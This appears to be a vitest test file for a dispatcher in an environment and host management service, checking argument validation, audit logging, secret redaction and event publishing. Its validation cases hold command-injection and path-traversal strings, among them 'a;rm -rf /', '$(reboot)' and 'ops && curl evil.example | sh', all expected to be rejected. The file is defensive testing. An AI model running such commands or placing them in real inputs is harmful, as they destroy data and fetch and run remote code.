import path from 'node:path';
import BetterSqlite3 from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Method } from '../../shared/contract.js';
import type { Envelope } from '../../shared/errors.js';
import type { AuditEntry, Environment } from '../../shared/types.js';
import { AuditLog } from '../audit/log.js';
import { createCore, type Core } from '../core/core.js';
import type { AnyEvent } from '../events/bus.js';
import { DATABASE_FILE, openDatabase, type Database } from '../store/database.js';
import { testContext as alice, TempDirs } from '../test-support.js';
import { NoAnswerError } from '../swarm/engine-error.js';
import { createDispatcher, type Handlers } from './dispatcher.js';
import { sleep } from '../swarm/poll';

const dirs = new TempDirs();
let dataDir: string;
let core: Core;

beforeEach(() => {
  dataDir = dirs.make();
  core = createCore({ dataDir, shell: 'web' });
});

afterEach(() => {
  core.close();
  dirs.cleanup();
});

const dispatch = (method: unknown, args: unknown) => core.dispatch(method, args, alice);

async function result<T>(method: Method, args: unknown = {}): Promise<T> {
  const envelope = await dispatch(method, args);
  if (!envelope.ok) throw new Error(`${method} failed: ${envelope.error.message}`);
  return envelope.result as T;
}

const environments = () => result<Environment[]>('env.list');
const auditLog = () => result<AuditEntry[]>('audit.list');

function failed(envelope: Envelope<unknown>) {
  expect(envelope.ok).toBe(false);
  if (envelope.ok) throw new Error('unreachable');
  return envelope.error;
}

describe('method lookup', () => {
  it.each([['env.nuke'], [42], [undefined], ['toString'], ['__proto__'], ['hasOwnProperty']])(
    'answers UNKNOWN_METHOD for %j',
    async (method) => {
      const error = failed(await dispatch(method, {}));
      expect(error.code).toBe('UNKNOWN_METHOD');
      expect(error.message).toContain(String(method));
    },
  );
});

describe('argument validation', () => {
  it.each([
    ['env.create', { name: 42 }, /^name: /],
    ['env.create', { name: '   ' }, /^name: Name is required/],
    ['env.create', { name: 'x'.repeat(65) }, /^name: Name is at most 64 characters/],
    ['env.create', { name: 'a;rm -rf /' }, /^name: Use letters, digits/],
    ['env.create', { name: '$(reboot)' }, /^name: Use letters, digits/],
    ['env.create', { name: '`reboot`' }, /^name: Use letters, digits/],
    ['env.create', { name: 'ops && curl evil.example | sh' }, /^name: Use letters, digits/],
    ['env.create', { name: 'ops\nrm' }, /^name: Use letters, digits/],
    ['env.create', { name: 'ok', description: 7 }, /^description: /],
    ['env.create', { name: 'ok', owner: 'mallory' }, /owner/],
    ['env.create', 'Staging', /expected object/],
    ['env.update', { id: 'one', name: 'x' }, /^id: /],
    ['env.update', { id: 1, name: '../etc' }, /^name: Use letters, digits/],
    ['env.remove', { id: 1.5 }, /^id: /],
    ['env.remove', { id: -1 }, /^id: /],
    ['settings.update', { theme: 'neon' }, /^theme: /],
    ['audit.list', { limit: 0 }, /^limit: /],
    ['env.list', { all: true }, /all/],
  ])(
    '%s %j is INVALID_ARGUMENT naming the field, and changes nothing',
    async (method, args, message) => {
      const before = await environments();

      const error = failed(await dispatch(method, args));

      expect(error.code).toBe('INVALID_ARGUMENT');
      expect(error.message).toMatch(message);
      expect(await environments()).toEqual(before);
      expect(await result('settings.get')).toEqual({ theme: 'system', auditRetentionDays: 365 });
    },
  );

  it('trims names before storing them', async () => {
    const created = await result<Environment>('env.create', { name: '  Staging  ' });
    expect(created.name).toBe('Staging');
  });

  it('accepts missing args for requests that take none', async () => {
    expect((await dispatch('env.list', undefined)).ok).toBe(true);
    expect((await dispatch('env.list', null)).ok).toBe(true);
  });
});

describe('audit records', () => {
  it('writes one record for a successful mutation: who, through which shell, what, on what', async () => {
    await result('env.create', { name: 'Staging', description: 'pre-prod' });

    const log = await auditLog();
    expect(log).toHaveLength(1);
    expect(log[0]).toMatchObject({
      actor: 'alice',
      shell: 'web',
      action: 'env.create',
      target: 'Staging',
      details: { name: 'Staging', description: 'pre-prod' },
      result: 'ok',
      error: null,
    });
    expect(Date.parse(log[0]?.at ?? '')).not.toBeNaN();
  });

  it('names the environment a rename or removal was about, as it was before the change', async () => {
    const env = await result<Environment>('env.create', { name: 'Staging' });
    await result('env.update', { id: env.id, name: 'Preprod' });
    await result('env.remove', { id: env.id });

    const [removed, renamed] = await auditLog();
    expect(renamed).toMatchObject({ action: 'env.update', target: 'Staging', result: 'ok' });
    expect(removed).toMatchObject({ action: 'env.remove', target: 'Preprod', result: 'ok' });
  });

  it('records a failed mutation as an error with its message (duplicate name: CONFLICT)', async () => {
    await result('env.create', { name: 'Staging' });

    const error = failed(await dispatch('env.create', { name: 'staging' }));

    expect(error.code).toBe('CONFLICT');
    expect(error.message).toContain('already exists');
    expect((await environments()).map((e) => e.name)).toEqual(['Default', 'Staging']);
    const [last] = await auditLog();
    expect(last).toMatchObject({
      action: 'env.create',
      target: 'staging',
      result: 'error',
      error: error.message,
    });
  });

  it('refuses to remove an environment that still has hosts, and records the refusal', async () => {
    const env = await result<Environment>('env.create', { name: 'Ops' });
    const sql = new BetterSqlite3(path.join(dataDir, DATABASE_FILE));
    sql
      .prepare('INSERT INTO hosts (environment_id, name, address, user) VALUES (?, ?, ?, ?)')
      .run(env.id, 'node-1', '10.0.0.1', 'root');
    sql.close();

    const error = failed(await dispatch('env.remove', { id: env.id }));

    expect(error.code).toBe('CONFLICT');
    expect(error.message).toContain('Ops');
    expect(error.message).toContain('1 host');
    expect((await environments()).find((e) => e.id === env.id)?.hostCount).toBe(1);
    expect(await result('host.list', { environmentId: env.id })).toHaveLength(1);
    const [last] = await auditLog();
    expect(last).toMatchObject({
      action: 'env.remove',
      target: 'Ops',
      result: 'error',
      error: error.message,
    });
  });

  it('still records a mutation on an unknown id (NOT_FOUND), with an empty target', async () => {
    const error = failed(await dispatch('env.remove', { id: 999 }));
    expect(error.code).toBe('NOT_FOUND');
    const [last] = await auditLog();
    expect(last).toMatchObject({ action: 'env.remove', target: '', result: 'error' });
  });

  it('records a mutation refused for invalid arguments', async () => {
    const error = failed(await dispatch('env.create', { name: 'a;rm -rf /' }));
    const log = await auditLog();
    expect(log).toHaveLength(1);
    expect(log[0]).toMatchObject({
      action: 'env.create',
      result: 'error',
      error: error.message,
      details: { name: 'a;rm -rf /' },
    });
  });

  it('writes nothing for queries', async () => {
    await result('app.info');
    await result('env.list');
    await result('host.list');
    await result('settings.get');
    await result('audit.list', { limit: 10 });
    failed(await dispatch('host.list', { environmentId: 'x' }));

    expect(await auditLog()).toEqual([]);
  });
});

describe('times of long operations', () => {
  let db: Database;
  beforeEach(() => {
    db = openDatabase(dirs.make());
  });
  afterEach(() => db.close());

  /** A dispatcher whose env.create takes `ms` (then succeeds or fails), writing to a real log. */
  function slow(ms: number, outcome: 'ok' | 'error') {
    const log = new AuditLog(db);
    const ran: { from: number; to: number }[] = [];
    const handlers = {
      'env.create': async () => {
        const from = Date.now();
        await sleep(ms);
        ran.push({ from, to: Date.now() });
        if (outcome === 'error') throw new Error('the cluster said no');
        return null;
      },
    } as unknown as Handlers;
    return {
      log,
      ran,
      dispatch: createDispatcher({
        handlers,
        access: core.services.access,
        audit: (r) => log.append(r),
      }),
    };
  }

  it.each(['ok', 'error'] as const)(
    'records when a %s mutation started (before its handler ran) and when it ended (after)',
    async (outcome) => {
      const { log, ran, dispatch } = slow(300, outcome);

      await dispatch('env.create', { name: 'Slow' }, alice);

      const [entry] = log.list(10);
      const [handler] = ran;
      expect(entry).toMatchObject({ action: 'env.create', result: outcome });
      expect(Date.parse(entry!.at)).toBeLessThanOrEqual(handler!.from);
      expect(Date.parse(entry!.endedAt!)).toBeGreaterThanOrEqual(handler!.to);
      expect(Date.parse(entry!.endedAt!) - Date.parse(entry!.at)).toBeGreaterThanOrEqual(290);
    },
  );

  it('records a change whose answer was lost as unknown, not failed', async () => {
    const log = new AuditLog(db);
    const handlers = {
      'env.create': () => {
        throw new NoAnswerError('drvlab1 did not answer (socket hang up)', 'drvlab1', true);
      },
    } as unknown as Handlers;
    const lost = createDispatcher({
      handlers,
      access: core.services.access,
      audit: (r) => log.append(r),
    });

    const envelope = await lost('env.create', { name: 'Lost' }, alice);

    expect(envelope).toMatchObject({
      ok: false,
      error: { code: 'UNAVAILABLE', details: { outcome: 'unknown', host: 'drvlab1' } },
    });
    expect(log.list(10)[0]).toMatchObject({ result: 'unknown' });
  });

  it('gives a mutation refused for invalid arguments a start and an end too', async () => {
    const { log, dispatch } = slow(0, 'ok');

    await dispatch('env.create', { name: 42 }, alice);

    const [entry] = log.list(10);
    expect(entry?.result).toBe('error');
    expect(Date.parse(entry!.endedAt!)).toBeGreaterThanOrEqual(Date.parse(entry!.at));
  });
});

describe('secrets in audit details', () => {
  let db: Database;
  beforeEach(() => {
    db = openDatabase(dirs.make());
  });
  afterEach(() => db.close());

  it('stores secret-named fields as [redacted], at any depth, and never their values', async () => {
    const log = new AuditLog(db);
    const handlers = Object.fromEntries(
      ['env.create', 'settings.update'].map((m) => [m, () => null]),
    ) as unknown as Handlers;
    const secured = createDispatcher({
      handlers,
      access: core.services.access,
      audit: (record) => log.append(record),
    });

    const envelope = await secured(
      'env.create',
      {
        name: 'Prod',
        password: 'hunter2',
        passphrase: 'open sesame',
        ssh: { user: 'root', privateKey: '-----BEGIN OPENSSH PRIVATE KEY-----abc' },
        hosts: [{ address: '10.0.0.1', token: 'swarm-join-SWMTKN-1-xyz' }],
      },
      alice,
    );

    expect(failed(envelope).code).toBe('INVALID_ARGUMENT');
    const [entry] = log.list(10);
    expect(entry?.details).toEqual({
      name: 'Prod',
      password: '[redacted]',
      passphrase: '[redacted]',
      ssh: { user: 'root', privateKey: '[redacted]' },
      hosts: [{ address: '10.0.0.1', token: '[redacted]' }],
    });
    const stored = JSON.stringify(db.prepare('SELECT * FROM audit_log').all());
    for (const secret of ['hunter2', 'open sesame', 'BEGIN OPENSSH', 'SWMTKN']) {
      expect(stored).not.toContain(secret);
    }
  });
});

describe('events', () => {
  function collect(): AnyEvent[] {
    const seen: AnyEvent[] = [];
    core.events.subscribe((event) => seen.push(event));
    return seen;
  }

  it('env.create publishes the new list (env.changed) and the audit entry (audit.appended)', async () => {
    const seen = collect();

    const created = await result<Environment>('env.create', { name: 'Staging' });

    expect(seen.map((e) => e.event)).toEqual(['env.changed', 'audit.appended']);
    const [changed, appended] = seen;
    expect(changed?.payload).toEqual(await environments());
    expect((changed?.payload as Environment[]).map((e) => e.name)).toEqual(['Default', 'Staging']);
    expect(appended?.payload).toMatchObject({
      action: 'env.create',
      target: 'Staging',
      result: 'ok',
      id: expect.any(Number),
    });
    expect(created.id).toBe((changed?.payload as Environment[])[1]?.id);
  });

  it('a failed mutation publishes only its audit entry, and a query publishes nothing', async () => {
    await result('env.create', { name: 'Staging' });
    const seen = collect();

    await dispatch('env.create', { name: 'Staging' });
    await dispatch('env.list', {});

    expect(seen.map((e) => e.event)).toEqual(['audit.appended']);
    expect(seen[0]?.payload).toMatchObject({ result: 'error' });
  });

  it('settings.update publishes the new settings and they survive a restart', async () => {
    const seen = collect();
    await result('settings.update', { theme: 'dark' });
    expect(seen[0]).toEqual({
      event: 'settings.changed',
      payload: { theme: 'dark', auditRetentionDays: 365 },
    });

    core.close();
    core = createCore({ dataDir, shell: 'web' });
    expect(await result('settings.get')).toEqual({ theme: 'dark', auditRetentionDays: 365 });
  });
});

describe('Core.call', () => {
  it('unwraps results and throws errors that keep their code', async () => {
    const list = await core.call('env.list', {}, alice);
    expect(list.map((e) => e.name)).toEqual(['Default']);
    await expect(core.call('env.remove', { id: 999 }, alice)).rejects.toMatchObject({
      code: 'NOT_FOUND',
      message: 'No environment with id 999',
    });
  });
});
